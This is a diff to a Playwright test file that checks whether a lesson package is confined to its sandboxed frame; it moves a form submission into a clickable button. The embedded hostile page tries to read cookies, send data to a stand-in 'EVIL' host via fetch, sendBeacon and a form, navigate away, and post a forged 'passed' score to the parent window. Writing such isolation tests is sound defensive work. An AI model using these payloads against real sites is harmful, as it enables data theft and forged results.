@@ -86,7 +86,8 @@ def test_a_lesson_is_stopped_and_resumed_where_it_was(centre: Centre, open_page:
 
 
 HOSTILE = """<!doctype html><html><head><title>Hostile</title></head><body><p id="said">…</p>
-<button id="away" onclick="location.href = 'EVIL/away'">Away</button><script>
+<button id="away" onclick="location.href = 'EVIL/away'">Away</button>
+<form action="EVIL/form" method="post"><button id="form">Send</button></form><script>
 const out = {};
 const attempt = (name, act) => { try { out[name] = String(act()); } catch { out[name] = "stopped"; } };
 attempt("cookie", () => document.cookie || "stopped");
@@ -110,9 +111,6 @@ const quiet = { credentials: "include", mode: "no-cors" };
   await ask("picture", () => element("img", { src: "EVIL/x.png" }));
   await ask("own", () => fetch("data.json").then((answer) => answer.json()));
   element("iframe", { src: "EVIL/inner" });
-  const form = Object.assign(document.createElement("form"), { action: "EVIL/form", method: "post" });
-  document.body.append(form);
-  form.submit();
   navigator.sendBeacon("EVIL/beacon", "x");
   const report = { run: "session1", status: "passed", raw: "100" };
   window.top.postMessage({ sauga: "package", part: "other", report }, "*");
@@ -159,8 +157,11 @@ def test_a_package_does_not_get_out_of_its_frame(
     out = json.loads(told.inner_text())
     assert {name for name, what in out.items() if what != "stopped"} == {"storage", "own"}
     assert page.evaluate("() => document.querySelector('iframe').contentDocument === null")
-    inside.locator("#away").click()
-    inside.locator("#away").wait_for(state="detached", timeout=WAIT)
+    for button in ("#away", "#form"):
+        told.wait_for(timeout=WAIT)
+        inside.locator(button).click()
+        inside.locator(button).wait_for(state="detached", timeout=WAIT)
+        page.reload()
     assert asked == []
     assert page.url.endswith(f"/part/{LESSON}/") and len(page.context.pages) == 1
     assert page.evaluate("() => localStorage.length") == 0
